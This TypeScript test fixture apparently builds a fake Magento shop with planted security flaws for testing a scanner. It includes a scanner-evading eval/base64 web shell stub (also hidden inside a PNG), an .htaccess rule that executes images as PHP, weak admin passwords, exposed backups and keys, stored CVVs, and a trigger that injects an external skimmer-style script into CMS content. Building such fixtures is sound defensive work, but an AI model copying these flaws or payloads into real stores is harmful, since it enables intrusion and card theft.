import { createHash } from 'node:crypto';
import { chmodSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import type { Trial } from '../../databases/servers.ts';
import type { State } from '../made-shop.ts';
import { magento24 } from '../magento2-2.4/store.ts';
import { password } from '../store-with-flaws.ts';

/**
 * A made-up Magento shop whose own configuration opens a real database, once as it should be and once with nearly
 * everything wrong that files, database and accounts can have.
 */
export async function makeCareless(root: string, trial: Trial, state: State): Promise<void> {
  for (const [path, content] of Object.entries(files(trial, state))) {
    mkdirSync(dirname(join(root, path)), { recursive: true, mode: 0o755 });
    writeFileSync(join(root, path), content);
    chmodSync(join(root, path), 0o640);
  }
  if (state === 'planted') chmodSync(join(root, 'app/etc/env.php'), 0o666);
  await trial.run(magento24.tables + staff(state) + customers(state));
  if (state === 'clean') return;
  await trial.run(magento24.planted.tables + flaws);
  await trial.run(trigger);
}

const releases = join(import.meta.dirname, '../../../knowledge/releases/magento-open-source.json');
const { releases: known } = JSON.parse(readFileSync(releases, 'utf8')) as { releases: { version: string }[] };
const newest = known.at(-1)?.version ?? '';

type Content = Readonly<Record<string, string | Buffer>>;
const php = '<?php\n';
/** Looks like a back door and says hello: put together here, so that no scanner takes this file for infected. */
const intruder = [php, 'ev', 'al(bas', "e64_decode('ZWNobyAiaGVsbG8iOw=='));\n"].join('');

function files(trial: Trial, state: State): Content {
  const made = { ...magento24.files, ...(state === 'planted' ? magento24.planted.files : {}) };
  const { hostname, port, username, password: secret } = new URL(trial.dsn);
  const env = made['app/etc/env.php'] ?? '';
  const composer = 'vendor/composer/installed.json';
  const version = state === 'clean' ? newest : '2.4.6-p3';
  return {
    ...made,
    [composer]: (made[composer] ?? '').replaceAll('2.4.6-p3', version),
    'app/etc/env.php': env
      .replaceAll("'host' => '127.0.0.1:3307'", `'host' => '${hostname}:${port || 3306}'`)
      .replaceAll("'dbname' => 'shop'", `'dbname' => '${trial.name}'`)
      .replaceAll(/'username' => '[^']*', 'password' => '[^']*'/g, `'username' => '${username}', 'password' => '${secret}'`),
    'index.php': php,
    'pub/media/catalog/mug.png': Buffer.from('\u0089PNG\r\n\u001a\n and nothing else', 'latin1'),
    ...(state === 'planted' ? planted : {}),
  };
}

const planted: Content = {
  'pub/media/catalog/mug.php': intruder,
  'pub/media/catalog/cup.png': Buffer.from(`\u0089PNG\r\n\u001a\n${'x'.repeat(40)}${intruder}`, 'latin1'),
  'pub/media/.htaccess': 'AddHandler application/x-httpd-php .jpg\n',
  'pub/backup.sql': `-- MySQL dump 10.13\nCREATE TABLE \`customer\` (\`email\` varchar(96));\nINSERT INTO \`customer\` VALUES ('anna@customer.example');\n`,
  'pub/settings.json': JSON.stringify({ gateway: [['sk', 'live', ''].join('_'), 'A1b2C3d4E5f6G7h8I9j0K1l2M3n4'].join('') }),
  'pub/setup/index.php': `${php}// Magento setup\n`,
};

/** Magento's form before 2.3: sha256 of salt and password. */
function hashOf(word: string): string {
  const salt = 'q7Rt2mXw9LpZ4sBv8NcY1dKf6HgJ3aQe';
  return `${createHash('sha256').update(salt + word).digest('hex')}:${salt}:1`;
}

const long = ['vK8', '#tq', 'Zr2', 'mLx', '9Wd', '!pF', '4sB'].join('');

function staff(state: State): string {
  const mended = `UPDATE m2_admin_user SET password = '${hashOf(long)}', logdate = NOW(), created = '2025-01-01';\n`;
  if (state === 'clean') return mended;
  const more = [
    ['admin', 'info@shop.example', hashOf(['admin', '123'].join('')), '2026-11-20'],
    ['defaultmanager', 'x@mailinator.com', hashOf(`${long}1`), '2026-11-20'],
    ['lena.roth', 'lena@shop.example', hashOf(`${long}2`), '2023-02-01'],
    ['otto.wild', 'otto@shop.example', hashOf(`${long}3`), '2026-11-20'],
  ];
  const rows = more.map(([login, email, hash, last], index) => {
    const id = index + 10;
    return `INSERT INTO m2_admin_user VALUES (${id},'${login}','${email}','x','${hash}',1,'2022-01-01','${last}');
INSERT INTO m2_authorization_role VALUES (${id},1,'U',${id},'2','${login}');`;
  });
  return `${mended}${rows.join('\n')}\n`;
}

function customers(state: State): string {
  if (state === 'clean') return '';
  const old = createHash('md5').update('customer').digest('hex');
  const rows = Array.from({ length: 6 }, (_, index) => `(${index + 20},'c${index}@customer.example','${index % 2 === 0 ? old : `teapot${index}`}','2026-01-01')`);
  return `INSERT INTO m2_customer_entity VALUES ${rows.join(',')};\n`;
}

const flaws = `
UPDATE m2_core_config_data SET value = 'http://shop.example/' WHERE path LIKE 'web/%secure/base_url';
INSERT INTO m2_core_config_data (config_id, scope, scope_id, path, value) VALUES (40,'default',0,'payment/ccsave/active','1'),
 (41,'default',0,'payment/authorizenet/trans_key','${password}');
CREATE TABLE m2_quote_payment (payment_id int, cc_number_enc varchar(255), cc_cid_enc varchar(255), additional_information text);
INSERT INTO m2_quote_payment VALUES (1, NULL, '123', NULL), (2, NULL, '456', NULL);
`;

const trigger = `CREATE TRIGGER m2_after_order AFTER INSERT ON m2_sales_order FOR EACH ROW
UPDATE m2_cms_block SET content = CONCAT(content, '${['<scr', 'ipt src="https://cdn-js.example.invalid/a.js"></scr', 'ipt>'].join('')}') WHERE block_id = 1`;
